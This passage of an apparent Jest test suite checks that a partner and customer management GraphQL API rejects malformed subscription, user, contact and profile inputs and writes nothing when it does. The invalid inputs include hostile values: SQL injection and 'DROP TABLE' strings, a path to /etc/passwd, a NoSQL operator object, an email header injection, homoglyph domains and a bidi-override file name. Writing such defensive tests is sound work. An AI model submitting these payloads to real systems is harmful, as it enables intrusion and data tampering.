    add('scheduleSubscriptionChange', 'input.offerId', 'an offer that is not an upgrade target', () => ({ subscriptionId: basic, offerId: AZURE }));
    add('scheduleSubscriptionChange', 'input.quantity', 'azure-plan for 2 licences (its maximum is 1)', () => ({ subscriptionId: azure, quantity: 2 }));
    add('upgradeSubscription', 'input.billingFrequency', 'the target for P1M billed ANNUAL', () => ({
      subscriptionId: basic,
      targetOfferId: target,
      termDuration: 'P1M',
      billingFrequency: 'ANNUAL',
    }));
    add('upgradeSubscription', 'input.targetOfferId', 'an offer that is not an upgrade target', () => ({ subscriptionId: basic, targetOfferId: AZURE }));
    add('upgradeSubscription', 'input.targetOfferId', 'its own offer', () => ({ subscriptionId: basic, targetOfferId: BASIC }));
    for (const [what, reason] of REASONS) {
      add('cancelSubscription', 'input.reason', `a reason with ${what}`, () => ({ subscriptionId: basic, reason }));
      add('suspendSubscription', 'input.reason', `a reason with ${what}`, () => ({ subscriptionId: basic, reason }));
    }
    for (const [what, by] of DURATIONS)
      add(
        'advanceTestClock',
        'input.by',
        `by ${what}`,
        () => ({ by }),
        () => operator,
      );
    return out;
  }

  /** Every subscription row, every table's row count, and the test clock's offset. */
  async function state(): Promise<string> {
    const rows = await t.server.ds.query<Record<string, unknown>[]>('SELECT * FROM subscription ORDER BY id');
    const clock = await t.server.ds.query<Record<string, unknown>[]>('SELECT * FROM server_clock');
    return JSON.stringify({ rows, clock, counts: await rowCounts() });
  }

  it('refuses bad quantities, terms, reasons and clock moves with BAD_USER_INPUT naming the field, changing nothing', async () => {
    const all = cases();
    expect(all.length).toBeGreaterThan(100);
    const failures: unknown[] = [];
    let before = await state();
    for (const c of all) {
      const res = await send(c.mutation, c.token(), c.input());
      const error = res.errors?.[0];
      const after = await state();
      const ok =
        res.status < 500 &&
        !res.data?.[c.mutation as never] &&
        error?.extensions?.code === 'BAD_USER_INPUT' &&
        Array.isArray(error.extensions.fields) &&
        error.extensions.fields.includes(c.field) &&
        after === before;
      if (!ok)
        failures.push({
          case: `${c.mutation} ${c.field}: ${c.what}`,
          status: res.status,
          error: error && { ...error, message: error.message.slice(0, 300) },
          wrote: after !== before,
        });
      before = after;
    }
    expect(failures).toEqual([]);
  }, 120_000);

  it('accepts the limits themselves: a reason of 500 characters (kept in the history), and the offer’s own terms', async () => {
    const reason = `${'Overdue '.repeat(62)}abcd`;
    expect([...reason]).toHaveLength(500);
    const res = await t
      .client(seller)
      .raw<{ suspendSubscription: { subscription: { status: string; history: { edges: { node: { action: string; details: string } }[] } } } }>({
        query: `mutation ($input: SuspendSubscriptionInput!) { suspendSubscription(input: $input) {
        subscription { status history(last: 1) { edges { node { action details } } } } } }`,
        variables: { input: { subscriptionId: basic, reason } },
      });
    expect(res.errors).toBeUndefined();
    const suspended = res.data!.suspendSubscription.subscription;
    expect(suspended.status).toBe('SUSPENDED');
    expect(suspended.history.edges.map((e) => [e.node.action, (JSON.parse(e.node.details) as { reason: string }).reason])).toEqual([
      ['SUBSCRIPTION_SUSPENDED', reason],
    ]);
    // the offer's own terms are taken (the refusals above came from the term alone)
    for (const input of [
      { customerId, offerId: AZURE, quantity: 1, termDuration: 'P1M', billingFrequency: 'MONTHLY' },
      { customerId, offerId: BASIC, quantity: 300, termDuration: 'P3Y', billingFrequency: 'TRIENNIAL' },
    ]) {
      const sold = await send('createSubscription', seller, input);
      expect({ input, errors: sold.errors }).toEqual({ input, errors: undefined });
    }
  });
});

/**
 * Customer accounts, partner profiles, users and licences (issue 24), beyond the generated cases: user names
 * outside the customer's domain, with invisible characters or a bad name part, or taken already (whatever the
 * letter case or width: NFKC); names empty, huge or with control characters; roles not in the catalog; licence
 * lists empty or too long; account details too long or with an address or contact that does not exist; updates
 * that change nothing; MPN IDs that are not 6 to 10 digits. Each is BAD_USER_INPUT naming the field and writes
 * nothing: the customer's users (as its admin lists them and as stored), its account details, the partner's
 * profile, the licences and every table's row count are unchanged.
 */
describe('customer accounts, partner profiles, users and licences', () => {
  let operator: string;
  let seller: TestPartner;
  let customerAdmin: string;
  let customerId: string;
  let domain: string;
  let userId: string;
  let licensed: string;
  const existing = { taken: '', kate: '' };

  beforeAll(async () => {
    operator = await t.tokens.operator();
    seller = await createPartner(t, 'DIRECT_RESELLER');
    const customer = await createCustomer(t, seller.token);
    customerId = customer.id;
    domain = customer.domain;
    customerAdmin = await t.tokens.customer(customerId);
    userId = await newUser(seller.token, customerId, `taken@${domain}`);
    existing.taken = userId;
    existing.kate = await newUser(seller.token, customerId, `kate@${domain}`);
    // a deleted user (restorable) still holds its name
    await lifecycle(seller.token, 'deleteCustomerUser', { userId: await newUser(seller.token, customerId, `former@${domain}`) });
    licensed = await sellTo(seller.token, customerId, { offerId: 'm365-business-basic', quantity: 3 });
    await lifecycle(seller.token, 'assignLicenses', { userId, subscriptionIds: [licensed] });
  });

  const CONTACT = { firstName: 'Nancy', lastName: 'Davolio', email: 'nancy@northwind.example', phoneNumber: '+1 425 555 0100' };
  const ADDRESS = { addressLine1: '1 Microsoft Way', city: 'Redmond', state: 'WA', postalCode: '98052', country: 'US' };
  /** user names refused for their form (the domain is filled in where `@D` ends them) */
  const USER_NAMES: [string, (d: string) => string][] = [
    ['another domain', () => 'jane@fabrikam.onmicrosoft.com'],
    ['a domain that only ends like the customer’s', (d) => `jane@evil-${d}`],
    ['a subdomain of the customer’s domain', (d) => `jane@sales.${d}`],
    ['the customer’s domain with a suffix', (d) => `jane@${d}.evil.example`],
    ['the domain with a Cyrillic а', (d) => `jane@${d.replace('o', '\u043E')}`],
    ['no @', (d) => `jane.${d}`],
    ['no name part', (d) => `@${d}`],
    ['no domain', () => 'jane@'],
    ['a zero-width space in the name', (d) => `ja\u200Bne@${d}`],
    ['a zero-width joiner in the domain', (d) => `jane@${d.replace('.', '\u200D.')}`],
    ['a left-to-right mark', (d) => `jane\u200E@${d}`],
    ['a byte order mark inside', (d) => `ja\uFEFFne@${d}`],
    ['a soft hyphen', (d) => `ja\u00ADne@${d}`],
    ['a word joiner', (d) => `ja\u2060ne@${d}`],
    ['a leading dot', (d) => `.jane@${d}`],
    ['a trailing dot', (d) => `jane.@${d}`],
    ['a doubled dot', (d) => `jane..doe@${d}`],
    ['a space inside', (d) => `jane doe@${d}`],
    ['a quote', (d) => `"jane"@${d}`],
    ['parentheses', (d) => `jane(doe)@${d}`],
    ['a comma', (d) => `jane,doe@${d}`],
    ['two @', (d) => `jane@doe@${d}`],
    ['a non-ASCII letter', (d) => `jan\u00E9@${d}`],
    ['a Cyrillic а', (d) => `j\u0430ne@${d}`],
    ['an emoji', (d) => `jane\u{1F680}@${d}`],
    ['a name part of 65 characters', (d) => `${'j'.repeat(65)}@${d}`],
    ['a name part that NFKC makes 66 characters (22 × ㎒)', (d) => `${'\u3392'.repeat(22)}@${d}`],
    ['an SQL injection', (d) => `' OR '1'='1@${d}`],
    ['a path', (d) => `../../etc/passwd@${d}`],
  ];
  /** taken already: by an ACTIVE user, the first admin, or a deleted user that can still be restored */
  const DUPLICATES: [string, (d: string) => string][] = [
    ['in upper case', (d) => `TAKEN@${d}`],
    ['with the domain in upper case', (d) => `taken@${d.toUpperCase()}`],
    ['in full-width letters (NFKC)', (d) => `\uFF54\uFF41\uFF4B\uFF45\uFF4E@${d}`],
    ['in full-width capitals (NFKC, then case)', (d) => `\uFF34\uFF21\uFF2B\uFF25\uFF2E@${d}`],
    ['with the Kelvin sign for the K (NFKC)', (d) => `\u212Aate@${d}`],
    ['with surrounding spaces', (d) => `  taken@${d}  `],
    ['the first admin’s, in another case', (d) => `Admin@${d}`],
    ['a deleted user’s that can be restored', (d) => `Former@${d}`],
  ];
  /** names (displayName, firstName, lastName) refused */
  const NAMES: [string, (limit: number) => string][] = [
    ['empty', () => ''],
    ['spaces only', () => '   '],
    ['zero-width characters only', () => '\u200B\u200C\u200D'],
    ['a NUL character', () => 'Jane\u0000Doe'],
    ['a BEL character', () => 'Jane\u0007'],
    ['an escape sequence', () => '\u001B[31mJane'],
    ['a tab', () => 'Jane\tDoe'],
    ['a new line', () => 'Jane\nDoe'],
    ['a C1 control character', () => 'Jane\u0085Doe'],
    ['a right-to-left override', () => 'Jane \u202Eeod'],
    ['a lone surrogate', () => 'Jane \uD800'],
    ['one character over its limit', (limit) => 'n'.repeat(limit + 1)],
    ['one code point over its limit, counted half by validator.js', (limit) => 'a\uFE0F'.repeat(Math.ceil((limit + 1) / 2))],
    ['100,000 characters', () => 'x'.repeat(100_000)],
  ];
  const NAME_LIMITS: [string, number][] = [
    ['displayName', 256],
    ['firstName', 64],
    ['lastName', 64],
  ];
  const ROLES: [string, unknown][] = [
    ['an unknown role', ['NOT_A_ROLE']],
    ['a role in lower case', ['global_administrator']],
    ['a partner role', ['GLOBAL_ADMIN']],
    ['a number', [7]],
    ['a null role', [null]],
    ['14 roles (the catalog has 13)', Array.from({ length: 14 }, () => 'DIRECTORY_READER')],
  ];

  interface DirectoryCase {
    what: string;
    mutation: string;
    field: string;
    token: () => string;
    input: () => Json;
  }

  function cases(): DirectoryCase[] {
    const out: DirectoryCase[] = [];
    const add = (mutation: string, field: string, what: string, input: () => Json, token = () => seller.token) =>
      out.push({ mutation, field, what, input, token });
    const user = (more: Json) => () => ({ customerId, userName: `new.user@${domain}`, displayName: 'New User', ...more });
    for (const [what, name] of [...USER_NAMES, ...DUPLICATES]) {
      add('createCustomerUser', 'input.userName', `a user name with ${what}`, user({ userName: name(domain) }));
      // the customer's own admin is held to the same rules
      add('createCustomerUser', 'input.userName', `a user name with ${what}, by the customer's admin`, user({ userName: name(domain) }), () => customerAdmin);
    }
    for (const [field, limit] of NAME_LIMITS) {
      for (const [what, value] of NAMES) {
        add('createCustomerUser', `input.${field}`, `${field} ${what}`, user({ [field]: value(limit) }));
        add('updateCustomerUser', `input.${field}`, `${field} ${what}`, () => ({ userId, [field]: value(limit) }));
      }
    }
    for (const [what, roles] of ROLES) {
      add('createCustomerUser', 'input.roles', `roles: ${what}`, user({ roles }));
      add('updateCustomerUser', 'input.roles', `roles: ${what}`, () => ({ userId, roles }));
    }
    for (const mutation of ['assignLicenses', 'unassignLicenses']) {
      add(mutation, 'input.subscriptionIds', 'no subscription (an empty list)', () => ({ userId, subscriptionIds: [] }));
      add(mutation, 'input.subscriptionIds', '51 subscriptions (the limit is 50)', () => ({
        userId,
        subscriptionIds: Array.from({ length: 51 }, () => licensed),
      }));
      add(mutation, 'input.subscriptionIds', 'an empty id', () => ({ userId, subscriptionIds: [licensed, ''] }));
      add(mutation, 'input.subscriptionIds', 'a null id', () => ({ userId, subscriptionIds: [null] }));
      add(mutation, 'input.subscriptionIds', 'a list of lists', () => ({ userId, subscriptionIds: [[licensed]] }));
      add(mutation, 'input.subscriptionIds', 'an id of 65 characters', () => ({ userId, subscriptionIds: ['a'.repeat(65)] }));
      add(mutation, 'input.subscriptionIds', 'an object', () => ({ userId, subscriptionIds: { $ne: null } }));
    }
    // account details
    const details = (more: Json) => () => ({ customerId, ...more });
    add('updateCustomer', 'input.companyName', 'a company name of 201 characters', details({ companyName: `Northwind ${'n'.repeat(191)}` }));
    add('updateCustomer', 'input.companyName', 'a company name of 100,000 characters', details({ companyName: 'N'.repeat(100_000) }));
    add('updateCustomer', 'input.companyName', 'an empty company name', details({ companyName: '' }));
    add('updateCustomer', 'input.companyName', 'a company name with a control character', details({ companyName: 'Northwind\u0007Traders' }));
    add('updateCustomer', 'input.companyName', 'a test company name', details({ companyName: 'Test Company' }));
    add('updateCustomer', 'input.companyName', 'a bare acronym', details({ companyName: 'ACME' }));
    const address = (more: Json) => details({ address: { ...ADDRESS, ...more } });
    add('updateCustomer', 'input.address.postalCode', 'a US postal code of letters', address({ postalCode: 'ABCDE' }));
    add('updateCustomer', 'input.address.postalCode', 'a German postal code of 4 digits', address({ postalCode: '1011', country: 'DE', state: undefined }));
    add('updateCustomer', 'input.address.postalCode', 'an empty postal code', address({ postalCode: '' }));
    add('updateCustomer', 'input.address.postalCode', 'a postal code of 21 characters', address({ postalCode: '9'.repeat(21) }));
    add('updateCustomer', 'input.address.country', 'a country that does not exist (XX)', address({ country: 'XX' }));
    add('updateCustomer', 'input.address.country', 'a country of three letters', address({ country: 'USA' }));
    add('updateCustomer', 'input.address.country', 'a country in full', address({ country: 'United States' }));
    add('updateCustomer', 'input.address.country', 'no country', address({ country: '' }));
    add('updateCustomer', 'input.address.city', 'no city', address({ city: '   ' }));
    add('updateCustomer', 'input.address.addressLine1', 'a street with a new line', address({ addressLine1: '1 Microsoft Way\nRedmond' }));
    for (const contact of ['primaryContact', 'billingContact']) {
      const person = (more: Json) => details({ [contact]: { ...CONTACT, ...more } });
      for (const [what, email] of [
        ['no @', 'nancy.northwind.example'],
        ['no domain', 'nancy@'],
        ['a space', 'nancy davolio@northwind.example'],
        ['two @', 'nancy@@northwind.example'],
        ['255 characters', `${'n'.repeat(64)}@${'d'.repeat(60)}.${'e'.repeat(60)}.${'f'.repeat(60)}.example`],
        ['an empty string', ''],
      ]) {
        add('updateCustomer', `input.${contact}.email`, `a ${contact} email with ${what}`, person({ email }));
      }
      for (const [what, phoneNumber] of [
        ['letters', 'call me maybe'],
        ['too few digits', '+1 12'],
        ['no country code and letters', '555-CALL-NOW'],
        ['33 characters', `+1 ${'4'.repeat(30)}`],
        ['an empty string', ''],
      ]) {
        add('updateCustomer', `input.${contact}.phoneNumber`, `a ${contact} phone number with ${what}`, person({ phoneNumber }));
      }
      add('updateCustomer', `input.${contact}.firstName`, `a ${contact} first name of 101 characters`, person({ firstName: 'n'.repeat(101) }));
      add('updateCustomer', `input.${contact}.lastName`, `a ${contact} last name with a NUL character`, person({ lastName: 'Dav\u0000olio' }));
    }
    // nothing to change: the input itself is named
    add('updateCustomer', 'input', 'no field to change', details({}));
    add('updateCustomer', 'input', 'only nulls', details({ companyName: null, address: null, primaryContact: null, billingContact: null }));
    add('updateCustomer', 'input', 'no field to change, by the customer’s admin', details({}), () => customerAdmin);
    add(
      'updatePartner',
      'input',
      'no field to change',
      () => ({ partnerId: seller.id }),
      () => seller.token,
    );
    add(
      'updatePartner',
      'input',
      'no field to change, by the operator',
      () => ({ partnerId: seller.id }),
      () => operator,
    );
    add(
      'updatePartner',
      'input',
      'only nulls',
      () => ({ partnerId: seller.id, name: null, contactEmail: null, mpnId: null, type: null, cloud: null }),
      () => operator,
    );
    add('updateCustomerUser', 'input', 'no field to change', () => ({ userId }));
    add('updateCustomerUser', 'input', 'only nulls', () => ({ userId, displayName: null, firstName: null, lastName: null, roles: null }));
    // a partner's profile
    for (const [what, mpnId] of [
      ['5 digits', '12345'],
      ['11 digits', '12345678901'],
      ['letters', 'abcdefg'],
      ['digits and a letter', '123456a'],
      ['full-width digits', '\uFF11\uFF12\uFF13\uFF14\uFF15\uFF16\uFF17'],
      ['Arabic-Indic digits', '\u0661\u0662\u0663\u0664\u0665\u0666\u0667'],
      ['a space inside', '1234 5678'],
      ['a negative number', '-1234567'],
      ['an empty string', ''],
    ]) {
      add(
        'updatePartner',
        'input.mpnId',
        `an MPN ID of ${what}`,
        () => ({ partnerId: seller.id, mpnId }),
        () => operator,
      );
    }
    add(
      'updatePartner',
      'input.name',
      'an empty name',
      () => ({ partnerId: seller.id, name: '' }),
      () => seller.token,
    );
    add(
      'updatePartner',
      'input.name',
      'a name of 201 characters',
      () => ({ partnerId: seller.id, name: 'n'.repeat(201) }),
      () => seller.token,
    );
    add(
      'updatePartner',
      'input.name',
      'a name with a bidi override',
      () => ({ partnerId: seller.id, name: 'Contoso \u202Eexe.' }),
      () => seller.token,
    );
    add(
      'updatePartner',
      'input.contactEmail',
      'a contact email with no @',
      () => ({ partnerId: seller.id, contactEmail: 'contact.partner.example' }),
      () => seller.token,
    );
    add(
      'updatePartner',
      'input.contactEmail',
      'a contact email with a new line',
      () => ({ partnerId: seller.id, contactEmail: 'a@b.example\nBcc: x@y.example' }),
      () => seller.token,
    );
    add(
      'updatePartner',
      'input.type',
      'an unknown type',
      () => ({ partnerId: seller.id, type: 'DISTRIBUTOR' }),
      () => operator,
    );
    add(
      'updatePartner',
      'input.cloud',
      'an unknown cloud',
      () => ({ partnerId: seller.id, cloud: 'MARS' }),
      () => operator,
    );
    return out;
  }

  /**
   * Ids that are well-formed slugs but no UUID, where every id of these tables is one: the inputs of the earlier
   * operations refuse them (IsUUID) as BAD_USER_INPUT naming the field; the new ones answered NOT_FOUND
   * (bugs-corpora.md, 1). The expected behaviour is asserted.
   */
  function idCases(): DirectoryCase[] {
    const out: DirectoryCase[] = [];
    const add = (mutation: string, field: string, what: string, input: () => Json) => out.push({ mutation, field, what, input, token: () => seller.token });
    for (const mutation of ['assignLicenses', 'unassignLicenses']) {
      add(mutation, 'input.subscriptionIds', 'a subscription id that is no UUID', () => ({ userId, subscriptionIds: ['not-a-subscription'] }));
      add(mutation, 'input.userId', 'a user id that is no UUID', () => ({ userId: 'not-a-user', subscriptionIds: [licensed] }));
    }
    add('updateCustomerUser', 'input.userId', 'a user id that is no UUID', () => ({ userId: 'not-a-user', displayName: 'X' }));
    add('deleteCustomerUser', 'input.userId', 'a user id that is no UUID', () => ({ userId: 'not-a-user' }));
    add('restoreCustomerUser', 'input.userId', 'a user id that is no UUID', () => ({ userId: 'not-a-user' }));
    add('createCustomerUser', 'input.customerId', 'a customer id that is no UUID', () => ({
      customerId: 'not-a-customer',
      userName: `new.user@${domain}`,
      displayName: 'New User',
    }));
    add('updateCustomer', 'input.customerId', 'a customer id that is no UUID', () => ({
      customerId: 'not-a-customer',
      companyName: 'Northwind Traders Incorporated',
    }));
    add('updatePartner', 'input.partnerId', 'a partner id that is no UUID', () => ({ partnerId: 'not-a-partner', name: 'Renamed Partner Ltd' }));
    return out;
  }

  /** The customer's users as its admin lists them (deleted ones too) and as stored, its account details, the seller's profile, the licences, every row count. */
  async function state(): Promise<string> {
    const listed = await t.client(customerAdmin).raw({
      query: `query ($id: ID!) { customerUsers(customerId: $id, first: 30, filter: { includeDeleted: true }) {
        totalCount edges { node { id userName displayName firstName lastName roles status updatedAt licenses { edges { node { id } } } } } } }`,
      variables: { id: customerId },
    });
    if (listed.errors) throw new Error(JSON.stringify(listed.errors));
    const rows = await Promise.all(['customer_user', 'license_assignment'].map((table) => t.server.ds.query<Json[]>(`SELECT * FROM ${table} ORDER BY id`)));
    const customer = await t.server.ds.query<Json[]>(`SELECT * FROM customer WHERE id = '${customerId}'`);
    const partner = await t.server.ds.query<Json[]>(`SELECT * FROM partner WHERE id = '${seller.id}'`);
    return JSON.stringify({ listed: listed.data, rows, customer, partner, counts: await rowCounts() });
  }

  /** Sends each case; the ones not refused with BAD_USER_INPUT naming the field (or an element of it), or that wrote something. */
  async function refusals(all: DirectoryCase[]): Promise<unknown[]> {
    const failures: unknown[] = [];
    let before = await state();
    for (const c of all) {
      const res = await send(c.mutation, c.token(), c.input());
      const error = res.errors?.[0];
      const after = await state();
      const fields = Array.isArray(error?.extensions?.fields) ? error.extensions.fields : [];
      const ok =
        res.status < 500 &&
        !res.data?.[c.mutation as never] &&
        error?.extensions?.code === 'BAD_USER_INPUT' &&
        fields.some((f) => f === c.field || f.startsWith(`${c.field}[`)) &&
        error.message.length < 2000 &&
        after === before;
      if (!ok)
        failures.push({
          case: `${c.mutation} ${c.field}: ${c.what}`,
          status: res.status,
          error: error && { code: error.extensions?.code, fields: error.extensions?.fields, message: error.message.slice(0, 300) },
          wrote: after !== before,
        });
      before = after;
    }
    return failures;
  }

  it('refuses bad user names, duplicates, names, roles, licence lists, account details and profiles with BAD_USER_INPUT naming the field, writing nothing', async () => {
    const all = cases();
    expect(all.length).toBeGreaterThan(200);
    expect(await refusals(all)).toEqual([]);
  }, 180_000);

  it('refuses an id that is no UUID in the new inputs as BAD_USER_INPUT naming the field, as the earlier inputs do (bugs-corpora.md, 1)', async () => {
    expect(await refusals(idCases())).toEqual([]);
  });

  it('refuses an MPN ID another partner has as CONFLICT, writing nothing', async () => {
    const other = await createPartner(t, 'DIRECT_RESELLER');
    const { mpnId } = (await t.server.ds.query<{ mpnId: string }[]>(`SELECT mpnId FROM partner WHERE id = '${other.id}'`))[0];
    const before = await state();
    const res = await send('updatePartner', operator, { partnerId: seller.id, mpnId });
    expect(res.errors?.[0]?.extensions?.code).toBe('CONFLICT');
    expect(await state()).toBe(before);
  });

  it('accepts the limits themselves and the user names of the rules (so each refusal above came from its value alone)', async () => {
    const names = { displayName: 'd'.repeat(256), firstName: 'f'.repeat(64), lastName: 'l'.repeat(64) };
    for (const userName of [`${"o'brien.j-doe_x!#^~"}@${domain}`, `${'j'.repeat(64)}@${domain.toUpperCase()}`, `\uFF4D\uFF41\uFF52\uFF59@${domain}`]) {
      const res = await send('createCustomerUser', seller.token, { customerId, userName, ...names, roles: ['DIRECTORY_READER'] });
      expect({ userName, errors: res.errors }).toEqual({ userName, errors: undefined });
    }
    for (const input of [
      { customerId, companyName: `Northwind ${'n'.repeat(190)}` },
      { customerId, address: { ...ADDRESS, postalCode: '10117', country: 'DE', city: 'Berlin', state: undefined } },
      { customerId, billingContact: { ...CONTACT, phoneNumber: '+49 30 901820' } },
    ]) {
      const res = await send('updateCustomer', seller.token, input);
      expect({ input, errors: res.errors }).toEqual({ input, errors: undefined });
    }
    const res = await send('updatePartner', operator, { partnerId: seller.id, mpnId: uniqueMpnId() });
    expect(res.errors).toBeUndefined();
    for (const mutation of ['unassignLicenses', 'assignLicenses'])
      expect((await send(mutation, seller.token, { userId, subscriptionIds: Array.from({ length: 50 }, () => licensed) })).errors).toBeUndefined();
  });
});

it('accepts each valid input once (so each refusal above came from the bad field alone)', async () => {
  for (const mutation of CONTROL_ORDER) {
    const res = await send(mutation, specs[mutation].token(), specs[mutation].input());
    expect({ mutation, errors: res.errors }).toEqual({ mutation, errors: undefined });
  }
});

it('stores injection strings in free-text fields as plain text, normalised (NFC, trimmed)', async () => {
  const operator = t.client(await t.tokens.operator());
  const name = "  Robert'); DROP TABLE partner; -- Cafe\u0301 Ltd  ";
  const res = await operator.raw<{ createPartner: { partner: { id: string; name: string } } }>({
    query: 'mutation ($input: CreatePartnerInput!) { createPartner(input: $input) { partner { id name } } }',
    variables: { input: { name, mpnId: uniqueMpnId(), type: 'DIRECT_RESELLER', cloud: 'PUBLIC', contactEmail: 'bobby@tables.example' } },
  });
  expect(res.errors).toBeUndefined();
  expect(res.data!.createPartner.partner.name).toBe("Robert'); DROP TABLE partner; -- Caf\u00E9 Ltd");
});
